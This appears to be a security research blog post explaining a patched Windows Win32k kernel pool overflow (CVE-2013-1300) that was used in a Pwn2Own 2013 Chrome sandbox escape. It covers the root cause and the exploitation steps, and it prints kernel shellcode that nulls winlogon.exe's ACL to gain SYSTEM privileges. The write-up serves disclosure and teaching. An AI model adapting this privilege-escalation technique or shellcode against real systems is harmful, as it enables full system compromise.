MWR Labs Pwn2Own 2013 Write-up -Kernel Exploit

MWR Labs took part in Pwn2Own 2013, demonstrating a full sandbox escape against Google Chrome. Two exploits were used in the demonstration:

  • A type confusion in WebKit, Chrome’s rendering Engine (CVE-2013-0912). We blogged about this vulnerability previously.
  • A kernel pool overflow in Win32k which allowed us to break out of the sandbox by compromising the underlying operating system (CVE-2013-1300).

This blog post discusses the details of the kernel vulnerability and exploit. The specific vulnerability was fixed by Microsoft in MS013-053.

The details of this vulnerability were first presented at the Nordic Sec Conf in Iceland (see our review of the conference). The slides of our presentation can be downloaded here.

Fuzzing the Windows Kernel

The specific vulnerability was found using MWR Labs’ Windows Kernel fuzzer. The fuzzer found several crashes, and specifically triggered a number of crashes with the following signature:

82aca424 8a07            mov     al,byte ptr [edi]            ds:0023:00410041=??

00000008 ffb80530 00000000 nt!ExpReleasePoolQuota+0x21
fd6b7168 00000000 ffb80530 nt!ExFreePoolWithTag+0x779
ffb80530 00000000 2ba8aa2a win32k!UnlinkSendListSms+0x70
00243c78 0000000d 00000008 win32k!xxxInterSendMsgEx+0xd0a
fe243c78 0000000d 00000008 win32k!xxxSendMessageTimeout+0x13b
fe243c78 0000000d 00000008 win32k!xxxSendMessageEx+0xec
fe243c78 0000000d 00000008 win32k!NtUserfnOUTSTRING+0xa7
0001037c 0000000d 00000008 win32k!NtUserMessageCall+0xc9
0001037c 0000000d 00000008 nt!KiFastCallEntry+0x12a

These crashes caught our attention as they indicated that pool memory had been corrupted. Looking at the crash dumps, we observed that the following undocumented system call triggered the crash:

NtUserMessageCall( HWND,0x8,         // Buffer size
                   ptr,         // user mode buffer
                   0x2);        // ASCII boolean/flag

A few more requirements had to be satisfied in order to trigger the bug:

  1. The message had to be sent between separate threads or processes.
  2. The receiving window had to be an ASCII window (created with CreateWindowExA).
  3. The receiving Window procedure had to send a reply to the WM_GETTEXT message which is larger than the buffer size divided by two.
  4. The last argument of NTUserMessageCall had to be an even number, which was greater than 0.

Specifically, the last requirement was interesting. We’ll see why a little later in this blog post.

The Vulnerability

When sending messages between threads in Windows, the xxxInterSendMsgEx method is responsible for forwarding the messages from the sending thread to the receiving thread. For certain message types that require a buffer to be returned (such as a string) it will calculate the required buffer size and allocate the buffer with a call to Win32AllocPoolWithQuota. Two factors are taken into account in order to determine the buffer size:

  • The type of the message.
  • The arguments to the system call responsible for sending the message. Of particular interest for responses returning strings is whether it expects an ASCII or WCHAR value.

The allocated buffer is then filled in by the receiving window while it is polling for outstanding messages. For our specific message, the kernel stack will look as follows:

a9de17d0 825c4759 a9de1850 a9dd9a84 00000008 win32k!CopyOutputString
a9de1aa4 82625d85 fe2389a0 0000000d 00000008 win32k!SfnOUTSTRING+0x336
a9de1aec 825f5ad1 0a2389a0 0000000d 00000008win32k!xxxSendMessageToClient+0x175
a9de1b68 82638034 fd96c5a0 2bad6b5a 0171fed8 win32k!xxxReceiveMessage+0x3b8
a9de1bb8 8263b7e6 a9de1be8 000025ff 00000000 win32k!xxxRealInternalGetMessage+0x252
a9de1c1c 82a4e89a 0171fed8 00000000 00000000 win32k!NtUserGetMessage+0x3f
a9de1c1c 77677094 0171fed8 00000000 00000000 nt!KiFastCallEntry+0x12a
0171ff00 7769377b 00000000 76fed4be 00000000 ntdll!KiFastSystemCallRet
0171ff40 7769374e 013d1340 00000000 00000000 ntdll!__RtlUserThreadStart+0x70
0171ff58 00000000 013d1340 00000000 00000000 ntdll!_RtlUserThreadStart+0x1b

CopyOutputString will fill in the kernel buffer, converting the value returned from the window procedure where applicable. The appropriate conversion is determined from the type of the receiving window (whether the window is ASCII or WCHAR) and the last argument passed to NTUserMessageCall (indicating if it is an ASCII or WCHAR message). This results in four potential cases:

  1. Both ASCII: Use strncpycch to copy the data.
  2. Both WCHAR: Use wcsncpycch to copy the data.
  3. ASCII target window and WCHAR requested by system call: Convert the string using MBToWCSEx.
  4. WCHAR target window and ASCII requested by system call: Convert the string using WCSToMBEx.

It should be obvious that the action that is taken must always match the size of the buffer that was previously allocated in xxxInterSendMsgEx. However, prior to the release of the patches in MS13-053, this was not the case.The problem existed in a discrepancy between the interpretation of the last argument to NtUserMessageCall by the allocation function and the function performing the copy operation. The allocation function treats the last argument as a Boolean value. In this case, 0 is considered false, and indicates a WCHAR value. Anything else will be interpreted as true, and indicates an ASCII value. However, the function performing the copy operation interpreted the last argument to NtUserMessageCall as a bit flag by examining the least significant bit, and used this to indicate if the value should be interpreted as ASCII or WCHAR.

In cases where the last argument to NtUserMessageCall is an even number and is non-zero, the allocation function and the function performing the copy operation will interpret this value differently. As an example, if we passed the value 2 as the last argument, the allocation function would treat this as Boolean true, and allocate a buffer big enough to hold the ASCII representation of the string. When the function performing the copy operation is called, it would copy the string as a WCHAR value, because the least significant bit of the value 2 is not set.

The allocated buffer will always be freed later in the xxxInterSendMsgEx function, and in most cases a crash will be triggered if the memory adjacent to the buffer was corrupted.

TheExploit

The buffer that we are able to overflow was allocated using the Win32AllocPoolWithQuota function, which stores a pointer to the relevant EPROCESS structure in order to track allocations for the current process. On our target platform (Windows 7 32-bit) this results in the following buffer layout, with the EPROCESS pointer conveniently placed after our data:


Tarjei Mandt’s Kernel Pool Exploitation on Windows 7 paper gave us a few pointers on how to exploit this issue.

The block size for the pool allocation (including the EPROCESS pointer) is rounded up to the nearest 16 byte boundary, which we are able to specify through the third argument to NtUserMessageCall. The maximum size of the write to the buffer will be twice the allocated size due to the WCHAR representation of the value being twice the length of the ASCII value. Ideally, to preserve reliability, we want to overwrite the EPROCESS pointer without corrupting any adjacent memory. In order to achieve this, we chose a buffer size of 8, which will result in an allocation of size 12 (8 + size of the EPROCESS pointer), and will be rounded up to 16. The copy operation will copy double the size of the buffer we requested, which in this case is also 16. This ensures that we will corruptthe EPROCESS pointer without affecting any adjacent pool objects.

Due to the conversion being from ASCII (not UTF8) to WCHAR, we were only able to overwrite the pointer with a limited set of values of the format 0x00xx00yy, where xx and yy are arbitrary values we control. After the copy operation, the buffer layout would be as follows:


This allowed us to point the EPROCESS pointer into user mode memory, and fake this structure at an address we control. The EPROCESS structure contains a lot of fields, many of which are uninteresting for the purposes of exploitation. However, when our buffer is freed, several values are modified that are referenced using the EPROCESS pointer. Specifically, a pointer in the EPROCESS structure is used to locate the QuotaBlock pointer for that process, as shown below:

kd> dt ntkrpamp!_EPROCESS
   +0x0d4 QuotaBlock       : Ptr32 _EPROCESS_QUOTA_BLOCK

As we control this value, we are also able to direct the pointer to the EPROCESS_QUOTA_BLOCK into controlled user memory. The EPROCESS_QUOTA_BLOCK is defined as follows:

typedef struct _EPROCESS_QUOTA_BLOCK {
    EPROCESS_QUOTA_ENTRY    QuotaEntry[3];
    LIST_ENTRY              QuotaList;
    ULONG                   ReferenceCount;
    ULONG                   ProcessCount;

Amongst other things, the ReferenceCount value will be decremented on a free of a buffer. It is important to remember thatalthough we are operating on memory allocated in user mode, the decrementing of values during a free will be performed in the context of kernel mode, so we are able to decrement any value, including those in kernel memory. We are also able to trigger this decrement an arbitrary number of times,allowing us more flexibility.

So, what can we find in kernel mode that will result in reliable code execution when decremented one or more times?

A known trick to retrieve pointers to kernel mode objects from user mode in Windows (prior to Windows 8) is to use the gSharedInfo table in user32.dll, which is at a static address and is mapped into all processes on the system. For the exploit, we can create a new win32k window object and retrieve the kernel mode address using this trick. Once we know this value, we can search for a value to decrement within this object’s structure. We decided to decrement the state value, which is a bit mask, and is outlined below:

kd> dt win32k!tagWND
   +0x000 head             : _THRDESKHEAD
   +0x014 state            : Uint4B
   +0x014 bHasMeun         : Pos 0, 1 Bit   ...
   +0x014 bServerSideWindowProc : Pos 18, 1 Bit
   +0x014 bAnsiWindowProc  : Pos 19, 1 Bit
   +0x014 bBeingActivated  : Pos 20, 1 Bit
   +0x014 bMaximizesToMonitor : Pos 30, 1 Bit
   +0x014 bDestroyed       : Pos 31, 1 Bit
   +0x060 lpfnWndProc      : Ptr32     long

Interestingly, one of the flags in this bit mask is the bServerSideWindowProc flag. This flag indicates whether the window procedure associated with the current window should be executed in user mode or in kernel mode. If this flag is set to 1, the window procedure (which we define during window creation) will be executed without a context switch, and consequently will run in kernel mode. In order to ensure we have decremented the value enough to set this flag, our window procedure checks whether it is being run in kernel mode on entry:

WORD um=0;
__asm {
    mov ax, cs
    mov um, ax
if(um == 0x1b) {// USER MODE
} else {

If it is executed in user mode, we bail and trigger an additional decrement. If it is executed in kernel mode, it will execute our shellcode which will allow us toelevate privileges from user mode. In order to achieve this we decided to implement a neat trick detailed in Easy local Windows Kernel exploitation by Cesar Cerrudo. The trick involves nulling out the ACL of a SYSTEM process so that we are able to inject a thread into the privileged process from a less privileged process (in this case, the chrome render process, which runs underthe “untrusted” integrity level). The kernel mode shellcode retrieves the KPROCESS structure from the window object and will then continue iterating over the KPROCESS linked list until it finds the process to remove the ACL from:

mov eax, hwnd // WND
mov eax, [eax+8] // THREADINFO
mov eax, [eax] // ETHREAD
mov eax, [eax+0x150] // KPROCESS
mov eax, [eax+0xb8] // flink
lea edx, [eax-0xb8] // KPROCESS
mov eax, [eax]
add edx, 0x16c // module name
cmp dword ptr [edx], 0x6c6e6977 // “winl” for winlogon.exe
jne procloop
sub edx, 0x170
mov dword ptr [edx], 0x0 // NULL ACL

In our exploit, we used winlogon.exe, as it has SYSTEM privileges and runs on the default desktop. This was necessary to ensure that the SYSTEM-level calc.exe would be visible for all to see. :)

When run on an unpatched 32-bit Windows 7 machine, our exploit shows the following output:

       .mMMMMMm.              mMMm    M  WWW   W    W  RRRRR
      mMMMMMMMMMMM.              MM   MM    W   W   W    R   R
     /MMMM-    -MM.              MM   MM    W   W   W    R   R
    /MMM.    _  \/  ^            M M M M     W W W W     RRRR
    |M.    aRRr    /W|           M M M M     W W W W     R  R
    \/  .. ^^^   wWWW|           M  M  M      W   W      R   R
       /WW\.  .wWWWW/            M  M  M      W   W      R    R

[+] This is schlamperei
[-] kernel class registered: 00001338
